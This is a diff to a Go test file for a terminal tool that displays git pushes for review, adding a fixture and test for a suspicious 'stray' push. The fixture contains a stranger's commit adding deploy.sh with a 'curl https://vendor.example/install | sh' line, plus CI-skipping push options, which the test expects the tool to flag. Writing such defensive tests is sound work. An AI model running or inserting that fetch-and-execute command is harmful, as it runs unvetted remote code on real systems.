@@ -90,6 +90,24 @@ func aLargePush() *sidecars.Push {
 	return p
 }
 
+// aStrayPush builds on what a stranger has proposed.
+func aStrayPush() *sidecars.Push {
+	p := aPush()
+	p.Refs = []sidecars.PushRef{
+		{Ref: "refs/heads/deploy", Old: noObject, New: newTip, Base: oldTip, BaseRef: "refs/heads/main"},
+		{Ref: "refs/heads/release", Old: oldTip, New: newTip, Unseen: true},
+	}
+	p.Options = []string{"ci.skip", "merge_request.create"}
+	p.Commits[2] = sidecars.PushCommit{Hash: "0badc0de" + oldTip[8:], Author: "stranger <stranger@example.org>", Subject: "Deploy with the vendor's script", Stray: true}
+	p.Files = []sidecars.PushFile{
+		{Path: "deploy.sh", Ref: "refs/heads/deploy", Change: "added", Added: 2, Is: "executable"},
+		{Path: "latest", Ref: "refs/heads/release", Change: "changed", Added: -1, Removed: -1, Is: "link"},
+	}
+	p.Diff = "--- /dev/null\n+++ b/deploy.sh @ refs/heads/deploy\n@@ -0,0 +1,2 @@\n+#!/bin/sh\n+curl https://vendor.example/install | sh\n"
+	p.CommitsCut, p.DiffCut = true, true
+	return p
+}
+
 func pushing(p *sidecars.Push) bottles.Bottle {
 	b := live("implementer-k3x9q", 2*time.Hour)
 	b.Requests = []bottles.Request{{
@@ -104,6 +122,7 @@ func pushing(p *sidecars.Push) bottles.Bottle {
 func init() {
 	scenes["push"] = func(s *stage) { opened(s, pushing(aPush())) }
 	scenes["push-end"] = func(s *stage) { opened(s, pushing(aPush()), "G") }
+	scenes["push-stray"] = func(s *stage) { opened(s, pushing(aStrayPush())) }
 	scenes["push-large"] = func(s *stage) { opened(s, pushing(aLargePush())) }
 	scenes["push-large-end"] = func(s *stage) { opened(s, pushing(aLargePush()), "G") }
 	scenes["push-deny"] = func(s *stage) {
@@ -181,11 +200,22 @@ func TestAPushThatRewrites(t *testing.T) {
 // A file whose lines all stay is there for its mode, and one that is empty has none.
 func TestFilesWithoutLines(t *testing.T) {
 	p := aPush()
-	p.Files = []sidecars.PushFile{{Path: "run.sh", Change: "changed"}, {Path: "py.typed", Change: "added"}}
+	p.Files = []sidecars.PushFile{{Path: "run.sh", Change: "changed", Is: "executable"}, {Path: "py.typed", Change: "added"}}
 	p.Diff, p.Commits[0].Author, p.Commits[1].Author, p.Commits[2].Author = "", "", "", ""
 	s := open(t, 120, 40, pushing(p))
-	s.sees("changed  no line  run.sh", "no line: its mode alone changes", "added      empty  py.typed", "no lines to show")
+	s.sees("changed  no line  run.sh  becomes executable", "no line: its mode alone changes", "added      empty  py.typed", "no lines to show")
 	s.lacks("no diff", "  by ")
+}
+
+// A push may bring more to a branch than it sends, and may ask the remote for more than it sends.
+func TestWhatAPushDoesNotHold(t *testing.T) {
+	for _, w := range []int{80, 120} {
+		s := open(t, w, 100, pushing(aStrayPush()))
+		s.sees("+ makes the branch deploy at 1f0c8d4", "▲ It builds on commits that are on no branch of the remote", "those of the branch main, at 8d1e22f",
+			"~ changes the branch release", "▲ What it changes there could not be read from the remote", "▲ 2 push options, whose meaning is the remote's own: ci.skip, merge_request.create",
+			"▲ 0badc0d  Deploy with the vendor's script", "▲ not in this push: the remote has it, on none of its branches so far",
+			"deploy.sh  on the branch deploy, executable", "latest  on the branch release, becomes a link", "Left out here: commits that the remote may have")
+	}
 }
 
 func TestPushesThatSendNothing(t *testing.T) {
